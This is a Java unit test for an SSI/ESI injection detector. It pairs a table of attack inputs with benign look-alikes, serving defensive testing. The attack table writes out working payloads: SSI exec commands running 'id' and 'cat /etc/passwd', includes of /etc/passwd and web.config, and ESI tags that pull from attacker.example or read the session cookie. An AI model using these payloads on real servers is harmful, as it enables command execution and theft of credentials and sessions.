package ai.traceable.tme.engine.detect.ssi;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

class SsiDetectorTest extends DetectorTableTest {
  private static final SsiDetector DETECTOR = new SsiDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.QUERY, "name", "<!--#exec cmd=\"id\" -->", "ssi-100"),
        a(Placement.QUERY, "q", "<!--#EXEC CMD=\"dir\"-->", "ssi-100"),
        a(Placement.QUERY, "q", "<!-- #include virtual=\"/etc/passwd\" -->", "ssi-100"),
        a(Placement.FORM, "c", "%3C%21--%23printenv+--%3E", "ssi-100"),
        a(Placement.QUERY, "m", "<!--#config errmsg=\"[owned]\"-->", "ssi-100"),
        a(
            Placement.QUERY,
            "q",
            "&lt;&excl;--&num;echo var=&quot;DOCUMENT_ROOT&quot;--&gt;",
            "ssi-100"),
        a(Placement.HEADER, "user-agent", "<!--#if expr=\"${REMOTE_USER} = /x/\"-->", "ssi-100"),
        a(Placement.JSON, "t", "#exec cmd=\"cat /etc/passwd\"", "ssi-110"),
        a(Placement.QUERY, "q", "# include  file = \"../web.config\"", "ssi-110"),
        a(Placement.JSON, "content", "<esi:include src=\"http://attacker.example/x\"/>", "ssi-120"),
        a(Placement.COOKIE, "lang", "<esi:vars>$(HTTP_COOKIE{session})</esi:vars>", "ssi-120"),
        a(Placement.QUERY, "p", "<ESI:INCLUDE SRC=\"/server-status\"/>", "ssi-120"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.JSON, "html", "<!-- hero banner --><section>Spring sale</section>"),
        b(Placement.JSON, "html", "<!--[if mso]><table><![endif]--><div>Hello</div>"),
        b(Placement.JSON, "body", "Add `#include <stdio.h>` at the top and recompile."),
        b(Placement.QUERY, "tag", "#inclusion"),
        b(Placement.JSON, "content", "<!-- wp:paragraph --><p>Our store opens.</p>"),
        b(Placement.JSON, "content", "<p>Intro.</p><!--more--><p>Rest.</p>"),
        b(Placement.JSON, "html", "<!-- TODO: update exec summary --><p>About us</p>"),
        b(Placement.QUERY, "q", "echo var usage in bash"),
        b(Placement.JSON, "css", "#include-list { color: #exec; }"),
        b(Placement.JSON, "md", "## Include files\n#echo is a hashtag"),
        b(Placement.JSON, "xml", "<esi-config><esi:unknown/></esi-config>"));
  }
}
